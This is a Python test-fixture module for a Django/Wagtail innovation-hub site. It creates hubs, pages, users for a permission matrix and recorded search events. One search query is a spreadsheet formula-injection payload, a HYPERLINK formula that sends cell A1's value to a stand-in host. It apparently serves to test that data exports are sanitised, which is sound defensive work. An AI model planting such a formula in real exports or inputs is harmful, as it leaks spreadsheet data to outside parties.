"""Two hubs with one published innovation each, the people of the permission matrix, and
recorded searches, built once per test module (pages are slow to create)."""

import datetime

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.utils import timezone

from innovations.models import HubPage
from innovations.permissions import ensure_national_curators
from insights.models import ResultClick, SearchAppearance, SearchEvent
from tests.factories import JAWA_TIMUR, create_innovation

PASSWORD = "sandi-uji-123"
HUB_A = "JIPP Provinsi Jawa Barat"
HUB_B = "JIPP Provinsi Jawa Timur"
INJECTION = '=HYPERLINK("http://contoh.test/?x="&A1,"klik")'


def national_group():
    """The site's own "Kurator nasional" group, as setup_roles makes it."""
    return ensure_national_curators()


def make_user(username, *groups, superuser=False, permissions=()):
    User = get_user_model()
    if superuser:
        return User.objects.create_superuser(username, f"{username}@contoh.go.id", PASSWORD)
    user = User.objects.create_user(username, f"{username}@contoh.go.id", PASSWORD)
    user.groups.add(*groups)
    for app_label, codename in permissions:
        user.user_permissions.add(
            Permission.objects.get(content_type__app_label=app_label, codename=codename)
        )
    return user


def build_world():
    pages = {
        "a": create_innovation(title="Posyandu Digital Sumedang", tags=["posyandu"]),
        "b": create_innovation(
            title="Pemetaan Wilayah dengan Pesawat Nirawak",
            tagline="Pesawat nirawak memetakan batas desa untuk layanan pertanahan.",
            **JAWA_TIMUR,
        ),
    }
    hub_a, hub_b = HubPage.objects.get(title=HUB_A), HubPage.objects.get(title=HUB_B)
    users = {
        "superuser": make_user("admin_pusat", superuser=True),
        "national": make_user("kurator_nasional", national_group()),
        "coordinator_a": make_user("koordinator_jabar", hub_a.coordinators),
        "moderator_a": make_user("moderator_jabar", hub_a.moderators),
        "coordinator_b": make_user("koordinator_jatim", hub_b.coordinators),
        "admin_only": make_user("staf_lain", permissions=[("wagtailadmin", "access_admin")]),
    }
    record_searches(hub_a.slug, hub_b.slug, pages)
    return pages, {"a": hub_a.slug, "b": hub_b.slug}, users


def _search(query, results, hubs=(), days_ago=0, times=1):
    hour = timezone.now().replace(minute=0, second=0, microsecond=0)
    hour -= datetime.timedelta(days=days_ago)
    for _ in range(times):
        event = SearchEvent.objects.create(
            hour=hour, query=query, language="id", source="page", result_count=results
        )
        for position, hub in enumerate(hubs, start=1):
            SearchAppearance.objects.create(event=event, hub=hub, best_position=position)


def record_searches(hub_a, hub_b, pages):
    _search("posyandu", 2, hubs=(hub_a, hub_b), times=3)
    _search("pemetaan desa", 1, hubs=(hub_b,), times=2)
    _search("uav", 0, times=4)
    _search(INJECTION, 0)
    _search("arsip kuno", 0, days_ago=100)
    ResultClick.objects.create(
        hour=timezone.now(), query="posyandu", position=1, page_id=pages["a"].pk, hub=hub_a
    )
